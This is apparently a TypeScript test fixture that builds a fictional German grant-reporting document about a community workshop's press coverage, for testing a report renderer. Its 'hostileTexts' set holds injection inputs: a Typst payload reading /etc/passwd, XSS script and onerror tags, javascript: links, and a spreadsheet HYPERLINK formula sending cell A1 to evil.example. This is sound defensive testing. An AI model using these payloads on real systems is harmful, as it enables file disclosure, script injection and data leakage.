import type {
  Block,
  Cell,
  Chart,
  Column,
  DistrictMapBlock,
  Figure,
  ReportDocument,
  Section,
  Table,
} from '../../src/modules/reports/visibility/report-document.js';

/** A made-up report with every kind of block in it: three campaigns, twelve releases, as many mentions as wanted. No names of people, no real outlets. */
export function sampleReport({
  mentions = 600,
  language = 'de',
}: { mentions?: number; language?: 'de' | 'en' } = {}): ReportDocument {
  return {
    language,
    title: 'Ankommen mit der Stadtwerkstatt: Sichtbarkeit 2026',
    cover: {
      kind: 'Sichtbarkeitsbericht',
      organisation: 'Stadtwerkstatt gGmbH',
      subtitle: 'Bericht zum Verwendungsnachweis der Förderung „Ankommen vor Ort“',
      facts: [
        { label: 'Zeitraum', text: '01.01.2026 – 30.11.2026' },
        { label: 'Stand der Daten', text: '30.11.2026, 14:07' },
        { label: 'Kampagnen', text: 'Start in vier Kreisen, Sommer der Begegnung, Werkstatt wird mobil' },
        { label: 'Fassung', text: '1, Zählregeln 3' },
      ],
      funders: [
        {
          name: 'Beispielministerium für Zusammenhalt',
          grant: 'Ankommen vor Ort',
          reference: 'FKZ 01-2026-417',
          statement:
            'Gefördert vom Beispielministerium für Zusammenhalt aufgrund eines Beschlusses des Landtags.',
          logo: {
            fileId: 'funder-one',
            sha256: 'a'.repeat(64),
            alt: 'Logo Beispielministerium für Zusammenhalt',
          },
        },
        {
          name: 'Stiftung Nachbarschaft',
          grant: 'Werkstatt wird mobil',
          reference: 'SN-88/26',
          statement: 'Mit freundlicher Unterstützung der Stiftung Nachbarschaft.',
          logo: null,
        },
      ],
    },
    sections: [
      section('summary', '1', 'Zusammenfassung', [
        paragraph(
          'Über die drei Kampagnen erschienen im Zeitraum 600 Platzierungen in 48 Medien; sie bilden 214 Geschichten. In 17 der 20 Zielkreise war mindestens ein Bericht zu lesen.',
        ),
        {
          kind: 'figures',
          keys: ['placements', 'stories', 'outlets', 'target-districts', 'local-share', 'statement-rate'],
        },
        {
          kind: 'markdown',
          text: '## Was uns wichtig war\n\nWir wollten **vor Ort** sichtbar werden, wo Menschen ankommen – nicht möglichst laut, sondern *verlässlich*:\n\n- in der Lokalzeitung, die die Nachbarschaft liest,\n- im Amtsblatt der Gemeinden,\n- in den Sendungen der Bürgerradios.\n\nMehr steht auf der [Seite der Werkstatt](https://stadtwerkstatt.example/presse).',
        },
        note(
          'Die Zahlen sagen, was erschienen und gefunden ist. Sie sagen nicht, wie viele Menschen es gelesen haben, und nicht, was daraus wurde.',
        ),
      ]),
      section('targets', '2', 'Ziele und Ergebnisse', [
        paragraph(
          'Die Zielwerte stehen im Zuwendungsbescheid; sie wurden vor Beginn des Zeitraums eingetragen.',
        ),
        targetTable(),
      ]),
      section('activities', '3', 'Maßnahmen', [
        paragraph(
          'Zwölf Mitteilungen gingen an die Presse. Der Förderhinweis stand in allen, die ihn brauchen.',
        ),
        { kind: 'figures', keys: ['own-releases', 'pick-up-rate', 'reaction-time'] },
        releaseTable(),
      ]),
      section('coverage', '4', 'Berichterstattung', [
        { kind: 'heading', text: 'Nach Verbreitung' },
        scopeTable(mentions),
        { kind: 'heading', text: 'Wie wir davon erfuhren' },
        paragraph(
          'Drei von vier Platzierungen fanden die Feeds der Medien; der Rest wurde von Hand eingetragen, vor allem aus gedruckten Zeitungen.',
        ),
        { kind: 'figures', keys: ['feed-coverage'] },
      ]),
      section('timeline', '5', 'Zeitlicher Verlauf', [
        chart(),
        monthTable(),
        note(
          'Schraffiert: Monate, in denen nicht alle Medien beobachtet wurden. Dort kann mehr erschienen sein.',
        ),
      ]),
      section('outlets', '6', 'Medien', [outletTable()]),
      section('reach', '7', 'Verbreitung', [
        paragraph(
          'Auflagen sind Angaben der Verlage. Sie werden je Kanal gezeigt und nie zu einer Reichweite addiert.',
        ),
        { kind: 'figures', keys: ['gross-copies', 'visits', 'districts'] },
      ]),
      section('districts', '8', 'Kreise', [map(), districtTable()]),
      section('content', '9', 'Inhalte', [
        { kind: 'figures', keys: ['funder-named-rate', 'initiated-rate', 'key-message-rate'] },
        note('Grundlage sind die 42 Beiträge, die von Hand gelesen und eingeordnet wurden.'),
      ]),
      section('highlights', '10', 'Beispiele', [highlights()]),
      section('effects', '11', 'Wirkung und Anfragen', [
        { kind: 'figures', keys: ['enquiries'] },
        {
          kind: 'markdown',
          text: 'Die Anfragen kamen aus **sieben Gemeinden**. Vier nannten einen Bericht als Anlass; das ist eine Auskunft, kein Nachweis.',
        },
      ]),
      section('lessons', '12', 'Erkenntnisse und Ausblick', [
        {
          kind: 'markdown',
          text: '1. Bilder aus der Werkstatt wurden öfter übernommen als gestellte.\n2. Amtsblätter brauchen zwei Wochen Vorlauf.\n\n> „Wir drucken gern, was vor unserer Tür geschieht“, schrieb eine Redaktion.\n\n### Was wir ändern\n\nNächstes Jahr schicken wir je Kreis eine eigene Fassung.',
        },
      ]),
      section('methods', '13', 'Methode und Grenzen', [
        paragraph(
          'Gezählt wird nach den Zählregeln 3. Eine Platzierung ist ein Beitrag in einem Medium; dieselbe Meldung in zwei Ausgaben sind zwei Platzierungen und eine Geschichte.',
        ),
        note(
          'Gedruckte Zeitungen, Radio und Fernsehen erscheinen selten in Feeds. Was niemand eintrug, fehlt.',
        ),
      ]),
      section('annex-mentions', 'A', 'Alle Erwähnungen', [mentionTable(mentions)], true),
      section(
        'annex-releases',
        'B',
        'Mitteilungen im Wortlaut der Überschriften',
        [
          {
            kind: 'markdown',
            text: releases.map(({ title, day }) => `- ${germanDay(day)}: ${title}`).join('\n'),
          },
        ],
        true,
      ),
      section(
        'annex-vouchers',
        'C',
        'Belege',
        [
          {
            ...table(
              'vouchers',
              'Verzeichnis der Belege',
              null,
              [column('voucher', 'Beleg', 3), column('place', 'Liegt', 2)],
              [],
            ),
            empty: 'Für diesen Bericht wurden keine Belege ausgewählt.',
          },
        ],
        true,
      ),
      section(
        'annex-definitions',
        'D',
        'Begriffe',
        [
          {
            kind: 'definitions',
            items: [
              {
                term: 'Platzierung',
                text: 'Ein Beitrag in einem Medium, auch wenn derselbe Text in mehreren steht.',
              },
              { term: 'Geschichte', text: 'Alle Platzierungen über denselben Anlass.' },
              { term: 'Zielkreis', text: 'Ein Kreis, den eine Kampagne erreichen wollte.' },
              {
                term: 'Beobachtbar',
                text: 'Mindestens ein Medium, das dort erscheint, wurde im Zeitraum beobachtet.',
              },
              {
                term: 'Förderhinweis',
                text: 'Der Satz, den der Zuwendungsbescheid für Veröffentlichungen verlangt.',
              },
            ],
          },
        ],
        true,
      ),
    ],
    figures: figures(mentions),
  };
}

/** Texts that a rendering may trip over, by what they try. They must be read as they are (what no font has, aside). */
export const hostileTexts: Record<string, string> = {
  typst:
    '#set page(width: 1cm) #image("/etc/passwd") $x^2$ <label> @ref *fett* _kursiv_ // weg #eval("1+1") `code`',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; &amp; "zitiert" \'einfach\'',
  formula: '=HYPERLINK("https://evil.example?"&A1;"klick")',
  tab: '\t=1+1',
  rightToLeft: 'Bericht \u202eתירבע\u202c und العربية in einer Zeile',
  emoji: 'Feier \u{1F389}\ufe0f mit \u{1F468}\u200d\u{1F469}\u200d\u{1F467} und 漢字',
  endless: 'Donaudampfschifffahrt'.repeat(24).slice(0, 500),
  control: 'Glocke \u0007 und Null \u0000 und halb \ud800',
  markdown: '**nicht fett** [kein Link](javascript:alert(1)) ![Bild](https://evil.example/x.png)',
};

/** The sample with each hostile text wherever a text can stand. */
export function hostileReport(text: string): ReportDocument {
  const report = sampleReport({ mentions: 3 });
  const rows = [{ cells: [textCell(text), textCell(text, 'javascript:alert(1)')], embargoUntil: null }];
  return {
    ...report,
    title: text,
    cover: {
      ...report.cover,
      kind: text,
      organisation: text,
      subtitle: text,
      facts: [{ label: text, text }],
      funders: [
        {
          name: text,
          grant: text,
          reference: text,
          statement: text,
          logo: { fileId: 'none', sha256: 'b'.repeat(64), alt: text },
        },
      ],
    },
    figures: [
      {
        ...report.figures[0]!,
        label: text,
        text,
        basis: text,
        source: text,
        rule: text,
        limits: text,
        unitText: text,
      },
    ],
    sections: [
      section('summary', '1', text, [
        paragraph(text),
        note(text),
        { kind: 'heading', text },
        { kind: 'markdown', text },
        { kind: 'figures', keys: ['placements'] },
        {
          ...table('mentions', text, 'mentions', [column('a', text, 1), column('b', text, 1)], []),
          rows,
          note: text,
        },
        { ...chart(), title: text, alt: text, series: [{ key: 'local', name: text, fill: 'local' }] },
        { ...map(), title: text, alt: text },
        {
          kind: 'highlights',
          items: [
            {
              day: '2026-03-01',
              dayText: text,
              outlet: text,
              scopeText: text,
              headline: text,
              url: text,
              summary: text,
              quote: text,
              quoteNote: text,
            },
          ],
        },
        { kind: 'definitions', items: [{ term: text, text }] },
      ]),
    ],
  };
}

function section(
  key: Section['key'],
  number: string,
  title: string,
  blocks: Block[],
  annex = false,
): Section {
  return { key, number, title, annex, blocks };
}
const paragraph = (text: string): Block => ({ kind: 'paragraph', text });
const note = (text: string): Block => ({ kind: 'note', text });

function column(key: string, header: string, width: number, more: Partial<Column> = {}): Column {
  return { key, header, width, align: 'start', visibility: 'all', sheetOnly: false, ...more };
}
const end = { align: 'end' } as const;
const textCell = (text: string, href?: string): Cell =>
  href ? { kind: 'text', text, href } : { kind: 'text', text };
const dayCell = (day: string): Cell => ({ kind: 'day', text: germanDay(day), value: day });
const numberCell = (value: number | null): Cell => ({
  kind: 'number',
  text: value === null ? 'unbekannt' : germanNumber(value),
  value,
  decimals: 0,
});
function percentCell(part: number, whole: number): Cell {
  const value = Math.round((part / whole) * 1000) / 10;
  return {
    kind: 'percent',
    text: whole < 10 ? `${part} von ${whole}` : `${Math.round(value)} %`,
    value,
    part,
    whole,
  };
}
function table(
  key: string,
  caption: string,
  sheet: Table['sheet'],
  columns: Column[],
  rows: Cell[][],
): Table {
  return {
    kind: 'table',
    key,
    caption,
    sheet,
    columns,
    rows: rows.map((cells) => ({ cells, embargoUntil: null })),
    note: '',
    empty: 'Im Zeitraum liegt nichts.',
  };
}

const germanDay = (day: string) => day.split('-').reverse().join('.');
const germanNumber = (value: number) => String(value).replace(/\B(?=(\d{3})+(?!\d))/g, '.');
const dayAt = (index: number) => new Date(Date.UTC(2026, 0, 5 + (index % 325))).toISOString().slice(0, 10);

const scopes = [
  { key: 'local', name: 'lokal', of: 330 },
  { key: 'regional', name: 'regional', of: 168 },
  { key: 'national', name: 'überregional', of: 30 },
  { key: 'trade', name: 'Fachmedium', of: 48 },
  { key: 'unknown', name: 'unbekannt', of: 24 },
];
const outletNames = [
  'Auenbote',
  'Neue Talpost',
  'Amtsblatt Musterlingen',
  'Radio Hügelland',
  'Kreiszeitung Nordmark',
  'Der Landbote',
  'Fachdienst Kommunal',
  'Wochenblatt am See',
  'Abendkurier',
  'Stadtanzeiger Beispielhausen',
  'Bürgerfunk Welle 7',
  'Rundblick',
];
const districts = [
  ['09772', 'Landkreis Augsburg'],
  ['09761', 'Augsburg'],
  ['09771', 'Landkreis Aichach-Friedberg'],
  ['09773', 'Landkreis Dillingen an der Donau'],
  ['09774', 'Landkreis Günzburg'],
  ['09775', 'Landkreis Neu-Ulm'],
  ['09778', 'Landkreis Unterallgäu'],
  ['09779', 'Landkreis Donau-Ries'],
  ['08421', 'Ulm'],
  ['08425', 'Alb-Donau-Kreis'],
  ['08426', 'Landkreis Biberach'],
  ['05515', 'Münster'],
  ['05566', 'Kreis Steinfurt'],
  ['12054', 'Potsdam'],
  ['14612', 'Dresden'],
  ['01002', 'Kiel'],
  ['03241', 'Region Hannover'],
  ['06412', 'Frankfurt am Main'],
  ['16051', 'Erfurt'],
  ['10041', 'Regionalverband Saarbrücken'],
] as const;
const openings = [
  'Werkstatt öffnet Türen',
  'Ankommen heißt mitmachen',
  'Vier Kreise starten gemeinsam',
  'Sommerfest bringt Nachbarn zusammen',
  'Mobile Werkstatt rollt an',
];
const places = [
  'in Musterlingen',
  'am Marktplatz',
  'im Hügelland',
  'an der Grundschule am Auwald',
  'im alten Bahnhof',
  'zwischen zwei Welten',
];
const endings = [
  '',
  ' – Anmeldung bis Freitag',
  ': Was Ehrenamtliche aus drei Gemeinden von der ersten Woche berichten',
  ' (mit Bildern)',
];
export const sampleHeadline = (index: number) =>
  `${openings[index % 5]!} ${places[index % 6]!}${endings[index % 4]!}`;
const releases = Array.from({ length: 12 }, (_, index) => ({
  day: dayAt(index * 27),
  title: `${openings[index % 5]!} ${places[(index + 2) % 6]!}`,
  campaign: ['Start in vier Kreisen', 'Sommer der Begegnung', 'Werkstatt wird mobil'][Math.floor(index / 4)]!,
}));

function targetTable(): Table {
  const state = (text: string, of: 'good' | 'open' | 'missed' | 'unknown'): Cell => ({
    kind: 'state',
    text,
    state: of,
  });
  return {
    ...table(
      'targets',
      'Soll und Ist',
      'targets',
      [
        column('indicator', 'Indikator', 5),
        column('target', 'Soll', 2, end),
        column('actual', 'Ist', 2, end),
        column('state', 'Stand', 2),
        column('rule', 'Zählregel', 4, { sheetOnly: true }),
      ],
      [
        [
          textCell('Eigene Mitteilungen'),
          numberCell(12),
          numberCell(12),
          state('erreicht', 'good'),
          textCell('Veröffentlichte Mitteilungen, Regel 1'),
        ],
        [
          textCell('Platzierungen'),
          numberCell(500),
          numberCell(600),
          state('übertroffen', 'good'),
          textCell('Relevante Erwähnungen ohne Dubletten, Regel 2'),
        ],
        [
          textCell('Zielkreise mit Bericht'),
          numberCell(20),
          numberCell(17),
          state('offen', 'open'),
          textCell('Kreise im Verbreitungsgebiet, Regel 1'),
        ],
        [
          textCell('Förderhinweis in Mitteilungen'),
          percentCell(12, 12),
          percentCell(12, 12),
          state('erreicht', 'good'),
          textCell('Geprüfter Hinweis, Regel 1'),
        ],
        [
          textCell('Förderer in Beiträgen genannt'),
          percentCell(21, 42),
          percentCell(18, 42),
          state('verfehlt', 'missed'),
          textCell('Eingeordnete Beiträge, Regel 1'),
        ],
        [
          textCell('Teilnehmende der Werkstatt'),
          numberCell(900),
          numberCell(null),
          state('unbekannt', 'unknown'),
          textCell('Von Hand eingetragen'),
        ],
      ],
    ),
    note: 'Soll: Zuwendungsbescheid vom 12.12.2025. „Unbekannt“ heißt: kein Wert eingetragen, nicht null.',
  };
}

function releaseTable(): Table {
  return table(
    'releases',
    'Mitteilungen',
    'activities',
    [
      column('day', 'Datum', 2),
      column('title', 'Mitteilung', 6),
      column('campaign', 'Kampagne', 3),
      column('outlets', 'Angeschrieben', 2, { ...end, visibility: 'inside' }),
      column('picked', 'Übernommen', 2, end),
    ],
    releases.map(({ day, title, campaign }, index) => [
      dayCell(day),
      textCell(title, `https://stadtwerkstatt.example/presse/${index + 1}`),
      textCell(campaign),
      numberCell(18 + index),
      percentCell(4 + (index % 5), index % 3 ? 18 + index : 8),
    ]),
  );
}

function scopeTable(mentions: number): Table {
  return table(
    'scopes',
    'Platzierungen nach Verbreitung',
    null,
    [
      column('scope', 'Verbreitung', 4),
      column('placements', 'Platzierungen', 2, end),
      column('share', 'Anteil', 2, end),
    ],
    scopes.map(({ name, of }) => [textCell(name), numberCell(of), percentCell(of, Math.max(mentions, 600))]),
  );
}

const months = Array.from({ length: 11 }, (_, index) => {
  const start = `2026-${String(index + 1).padStart(2, '0')}-01`;
  const values = {
    local: 12 + ((index * 17) % 41),
    regional: 6 + ((index * 11) % 19),
    national: index % 4,
    trade: 2 + (index % 5),
    unknown: index % 3,
  };
  return { start, values, observed: index === 2 ? 0.4 : index === 7 ? 0 : index === 0 ? null : 1 };
});
const monthNames = ['Jan.', 'Feb.', 'März', 'April', 'Mai', 'Juni', 'Juli', 'Aug.', 'Sept.', 'Okt.', 'Nov.'];

function chart(): Chart {
  return {
    kind: 'chart',
    key: 'months',
    title: 'Die meisten Platzierungen erschienen zum Auftakt und im Sommer',
    alt: 'Gestapelte Balken von Januar bis November 2026 nach Verbreitung; lokale Medien stellen in jedem Monat den größten Teil. Der August wurde nicht beobachtet.',
    series: scopes.map(({ key, name }) => ({ key, name, fill: key })),
    bars: months.map(({ start, values, observed }, index) => ({
      start,
      label: `${monthNames[index]!} 2026`,
      values,
      observed,
    })),
    markers: releases.map(({ day, title }) => ({ day, kind: 'release', title })),
    unitText: 'Platzierungen je Monat',
  };
}

function monthTable(): Table {
  return table(
    'months',
    'Platzierungen je Monat',
    null,
    [
      column('month', 'Monat', 3),
      ...scopes.map(({ key, name }) => column(key, name, 2, end)),
      column('observed', 'Beobachtet', 2, end),
    ],
    months.map(({ values, observed }, index) => [
      textCell(`${monthNames[index]!} 2026`),
      ...Object.values(values).map(numberCell),
      textCell(observed === null ? 'unbekannt' : `${Math.round(observed * 100)} %`),
    ]),
  );
}

function outletTable(): Table {
  return {
    ...table(
      'outlets',
      'Medien mit Platzierungen',
      'outlets',
      [
        column('outlet', 'Medium', 4),
        column('scope', 'Verbreitung', 2),
        column('placements', 'Platzierungen', 2, end),
        column('copies', 'Auflage', 3, end),
        column('first', 'Erste', 2, end),
        column('url', 'Adresse', 4, { sheetOnly: true }),
      ],
      outletNames.map((name, index) => {
        const low = 12_000 + index * 1_750;
        const copies: Cell =
          index % 4 === 3
            ? { kind: 'range', text: 'unbekannt', low: null, high: null }
            : {
                kind: 'range',
                text: `${germanNumber(low)} – ${germanNumber(low + 2_000)}`,
                low,
                high: low + 2_000,
              };
        return [
          textCell(name),
          textCell(scopes[index % 4]!.name),
          numberCell(96 - index * 7),
          copies,
          dayCell(dayAt(index * 3)),
          textCell(`https://medium-${index + 1}.example`, `https://medium-${index + 1}.example`),
        ];
      }),
    ),
    note: 'Auflage: Angabe des Verlags, verbreitet. Die Spanne kommt aus verschiedenen Quellen.',
  };
}

function map(): DistrictMapBlock {
  return {
    kind: 'map',
    key: 'districts',
    title: 'In 17 von 20 Zielkreisen erschien mindestens ein Bericht',
    alt: 'Schematische Karte der Kreise. Die meisten Platzierungen liegen in Schwaben; drei Zielkreise blieben ohne Bericht, einer davon war nicht beobachtbar.',
    cells: districts.map(([ags], index) => ({
      ags,
      step: index > 16 ? 0 : Math.max(1, 4 - Math.floor(index / 4)),
      hatched: index === 19,
      outlined: index % 3 === 0 || index > 16,
    })),
  };
}

function districtTable(): Table {
  return table(
    'districts',
    'Kreise',
    'districts',
    [
      column('district', 'Kreis', 5),
      column('placements', 'Platzierungen', 2, end),
      column('target', 'Zielkreis', 2),
      column('people', 'Einwohner', 2, end),
    ],
    districts.map(([, name], index) => [
      textCell(name),
      numberCell(index === 19 ? null : index > 16 ? 0 : 51 - index * 3),
      textCell(index % 3 === 0 || index > 16 ? 'ja' : 'nein'),
      numberCell(251_034 - index * 4_117),
    ]),
  );
}

function highlights(): Block {
  return {
    kind: 'highlights',
    items: [
      {
        day: '2026-03-12',
        dayText: '12.03.2026',
        outlet: 'Auenbote',
        scopeText: 'lokal',
        headline: 'Wo aus Fremden Nachbarn werden',
        url: 'https://auenbote.example/werkstatt',
        summary:
          'Die Reportage begleitet einen Nachmittag in der Werkstatt und erklärt, wie Gemeinden mitmachen können.',
        quote: 'Hier fragt niemand zuerst nach Papieren.',
        quoteNote: 'Zitiert zum Beleg der Kernbotschaft „Ankommen vor Ort“; Auenbote, 12.03.2026.',
      },
      {
        day: '2026-07-02',
        dayText: '02.07.2026',
        outlet: 'Radio Hügelland',
        scopeText: 'regional',
        headline: 'Mobile Werkstatt rollt an',
        url: 'https://huegelland.example/sendung/17',
        summary: 'Ein Gespräch von vier Minuten über den Bus, der in acht Dörfern hält.',
        quote: '',
        quoteNote: '',
      },
    ],
  };
}

/** Annex A: headlines of all lengths, with what spreadsheets keep beside them. */
export function mentionTable(count: number): Table {
  return {
    ...table(
      'mentions',
      'Alle Erwähnungen des Zeitraums',
      'mentions',
      [
        column('day', 'Datum', 2),
        column('outlet', 'Medium', 3),
        column('scope', 'Verbreitung', 2),
        column('headline', 'Überschrift', 7, { visibility: 'headline' }),
        column('campaign', 'Kampagne', 3, { sheetOnly: true }),
        column('url', 'Adresse', 4, { sheetOnly: true }),
      ],
      Array.from({ length: count }, (_, index) => {
        const url = `https://medium-${(index % 12) + 1}.example/artikel/${index + 1}`;
        return [
          dayCell(dayAt(Math.floor((index * 325) / count))),
          textCell(outletNames[index % 12]!),
          textCell(scopes[index % 5]!.name),
          textCell(sampleHeadline(index), url),
          textCell(releases[index % 12]!.campaign),
          textCell(url, url),
        ];
      }),
    ),
    note: 'Ohne Erwähnungen, die als Dublette oder als nicht einschlägig markiert sind.',
  };
}

function figures(mentions: number): Figure[] {
  const basis = '600 Platzierungen, 01.01. – 30.11.2026';
  const of = (
    key: string,
    label: string,
    value: number | null,
    text: string,
    more: Partial<Figure> = {},
  ): Figure => ({
    key,
    indicator: null,
    label,
    value,
    high: null,
    counts: null,
    text,
    unit: 'count',
    unitText: 'Anzahl',
    basis,
    source: 'Echolot, Erwähnungen',
    asOf: '2026-11-30',
    rule: 'Zählregeln 3',
    limits: 'Zählt, was gefunden wurde.',
    comparison: null,
    target: null,
    ...more,
  });
  const rate = { unit: 'percent', unitText: 'Anteil' } as const;
  const placed = String(Math.max(mentions, 600));
  return [
    of('placements', 'Platzierungen', 600, placed, {
      indicator: 'placements',
      comparison: { label: 'Vorjahr', value: 412, text: '+188 gegenüber 412', direction: 'up' },
      target: { value: 500, text: '500', reached: 120, reachedText: '120 %' },
    }),
    of('stories', 'Geschichten', 214, '214', {
      indicator: 'stories',
      comparison: { label: 'Vorjahr', value: 214, text: 'unverändert', direction: 'same' },
    }),
    of('outlets', 'Medien', 48, '48', {
      indicator: 'outlets',
      comparison: { label: 'Vorjahr', value: 51, text: '−3 gegenüber 51', direction: 'down' },
    }),
    of('target-districts', 'Zielkreise mit Bericht', 17, '17 von 20', {
      indicator: 'target-districts',
      counts: { part: 17, whole: 20 },
      basis: '20 Zielkreise der drei Kampagnen',
      source: 'Echolot, Verbreitungsgebiete der Medien',
      target: { value: 20, text: '20', reached: 85, reachedText: '85 %' },
    }),
    of('local-share', 'Anteil lokaler Medien', 55, '55 %', {
      indicator: 'local-share',
      ...rate,
      counts: { part: 330, whole: 600 },
    }),
    of('statement-rate', 'Mitteilungen mit Förderhinweis', 100, '12 von 12', {
      indicator: 'statement-rate',
      ...rate,
      counts: { part: 12, whole: 12 },
      basis: '12 Mitteilungen mit Pflicht zum Hinweis',
      source: 'Echolot, Prüfung der Mitteilungen',
      target: { value: 100, text: '100 %', reached: 100, reachedText: '100 %' },
    }),
    of('own-releases', 'Eigene Mitteilungen', 12, '12', {
      indicator: 'own-releases',
      basis: '12 Mitteilungen aus drei Kampagnen',
    }),
    of('pick-up-rate', 'Abdruckquote', 62, '62 %', {
      indicator: 'pick-up-rate',
      ...rate,
      counts: { part: 132, whole: 214 },
    }),
    of('reaction-time', 'Zeit bis zum ersten Bericht', 19.5, '19,5 Stunden', {
      indicator: 'reaction-time',
      unit: 'hours',
      unitText: 'Stunden, Median',
    }),
    of('feed-coverage', 'Über Feeds gefunden', 74, '74 %', {
      indicator: 'feed-coverage',
      ...rate,
      counts: { part: 444, whole: 600 },
    }),
    of('gross-copies', 'Gedruckte Exemplare', 1_204_000, '1.204.000 – 1.410.000', {
      indicator: 'gross-copies',
      high: 1_410_000,
      unit: 'copies',
      unitText: 'verbreitete Exemplare, brutto',
      source: 'Angaben der Verlage',
      limits: 'Exemplare sind keine Leserinnen und Leser.',
    }),
    of('visits', 'Besuche der Seiten', null, 'unbekannt', {
      unit: 'visits',
      unitText: 'Besuche am Tag',
      source: 'keine Angabe',
      basis: '212 Beiträge im Netz',
    }),
    of('districts', 'Kreise mit Bericht', 41, '41', { indicator: 'districts' }),
    of('funder-named-rate', 'Förderer genannt', 43, '43 %', {
      indicator: 'funder-named-rate',
      ...rate,
      counts: { part: 18, whole: 42 },
    }),
    of('initiated-rate', 'Aus eigenem Anlass', 71, '71 %', {
      indicator: 'initiated-rate',
      ...rate,
      counts: { part: 30, whole: 42 },
    }),
    of('key-message-rate', 'Kernbotschaft übernommen', 83, '5 von 6', {
      indicator: 'key-message-rate',
      ...rate,
      counts: { part: 5, whole: 6 },
    }),
    of('enquiries', 'Anfragen von Kommunen', 11, '11', {
      indicator: 'enquiries',
      basis: '11 eingetragene Anfragen',
      source: 'Echolot, Kontakte',
    }),
  ];
}
